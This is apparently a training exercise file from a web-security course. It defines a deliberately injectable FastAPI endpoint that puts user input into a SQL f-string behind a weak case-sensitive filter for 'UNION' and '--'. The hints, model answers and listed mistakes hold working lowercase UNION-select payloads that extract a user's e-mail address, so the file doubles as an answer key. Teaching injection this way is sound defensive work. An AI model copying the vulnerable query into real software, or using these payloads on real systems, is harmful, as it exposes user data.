"""SQL injection through a filter that looks for two words."""

from typing import Any

from fastapi import APIRouter, HTTPException
from sqlalchemy import select, text

from course.exercises.exercise import Exercise, Mistake
from course.judges.attacks import Target, tried_on, tried_on_the_finished
from course.judges.trials import Trying
from microblog.dependencies import ReadEngine
from microblog.models import User

router = APIRouter()


@router.get("/users/{username}/posts/")
def list_user_posts(username: str, engine: ReadEngine) -> list[dict[str, Any]]:
    for word in ("UNION", "--"):
        if word in username:
            raise HTTPException(400, f"No {word} here.")
    found = text(
        "SELECT posts.id, content, timestamp, owner_id, username FROM posts "
        f"JOIN users ON users.id = owner_id WHERE username = '{username}'"
    )
    with engine.connect() as connection:
        return [dict(row) for row in connection.execute(found).mappings()]


def address_of_keiko(target: Target) -> Any:
    return target.rows(select(User.email).where(User.username == "keiko"))[0]


EXERCISE = Exercise(
    title="Past the filter",
    minutes=7,
    objective="get past a filter for words",
    task="""The query of the theft has this filter in front of it:

```python
for word in ("UNION", "--"):
    if word in username:
        raise HTTPException(400, f"No {word} here.")
```

Write `attack(api)`: it asks `/users/…/posts/` for a name of your making, and returns the e-mail
address of keiko, a string.""",
    starter="""def attack(api):
    # your code here
    ...


answer = ...  # then: attack""",
    hints=(
        "Python's `in` compares letter by letter. Does SQL care how you write its words?",
        "Without `--` the closing quote of the statement stays. Let your text end in such a way "
        "that this quote closes something, for example a comparison with a text.",
        "The name `' union select id, email, email, id, username from users where username = "
        "'keiko` needs no capitals and no comment. The address is the `content` of the first row "
        "of the answer's JSON.",
    ),
    imports="",
    answers=(
        """
def attack(api):
    name = "' union select id, email, email, id, username from users where username = 'keiko"
    return api.get(f"/users/{name}/posts/").json()[0]["content"]
""",
        """
def attack(api):
    second = "Union All Select 1, email, email, 1, username From users"
    rows = api.get(f"/users/' {second} Where '1' = '1/posts/").json()
    return {row["username"]: row["content"] for row in rows}["keiko"]
""",
    ),
    mistakes=(
        Mistake(
            "capitals",
            """
def attack(api):
    name = "' UNION SELECT id, email, email, id, username FROM users WHERE username = 'keiko"
    return api.get(f"/users/{name}/posts/").json()[0]["content"]
""",
            "The filter found UNION in your text. It compares letter by letter, capitals and all; "
            "SQL reads its words in any spelling.",
        ),
        Mistake(
            "a comment",
            """
def attack(api):
    name = "' union select id, email, email, id, username from users where id = 5 --"
    return api.get(f"/users/{name}/posts/").json()[0]["content"]
""",
            "The filter found -- in your text. You don't need a comment: let your text end so that "
            "the quote which follows it closes something.",
        ),
        Mistake(
            "posts only",
            """
def attack(api):
    return api.get("/users/' or '1' = '1/posts/").json()[0]["content"]
""",
            "You got in, and what you return is the text of a post. An open condition brings more "
            "rows, but the columns are still those of posts. A second SELECT behind a union "
            "chooses its own.",
        ),
        Mistake(
            "a quote left open",
            """
def attack(api):
    name = "' union select id, email, email, id, username from users where username = keiko"
    return api.get(f"/users/{name}/posts/").json()[0]["content"]
""",
            "Your text passed the filter, and then the database couldn't read the SQL: a quote "
            "in it is never closed. Write the whole statement down, with your text in its place, "
            "and count the quotes.",
        ),
        Mistake(
            "other columns",
            """
def attack(api):
    name = "' union select email from users where username = 'keiko"
    return api.get(f"/users/{name}/posts/").json()[0]["content"]
""",
            "Your text passed the filter, but the two SELECTs of a union need equally many "
            "columns. The first one has five.",
        ),
        Mistake(
            "everybody's addresses",
            """
def attack(api):
    name = "' union select id, email, email, id, username from users where '1' = '1"
    return api.get(f"/users/{name}/posts/").json()[0]["content"]
""",
            "You return an address, and it is marta's. If your second SELECT finds all users, look "
            "for keiko among its rows, or find only her.",
        ),
    ),
    judge=Trying(
        [
            tried_on("The draft with the filter.", router, address_of_keiko),
            tried_on("The draft with other addresses.", router, address_of_keiko, town="soria"),
            tried_on_the_finished(address_of_keiko),
        ]
    ),
    praise="keiko's address, past the filter. The bound parameter of the finished query holds.",
)
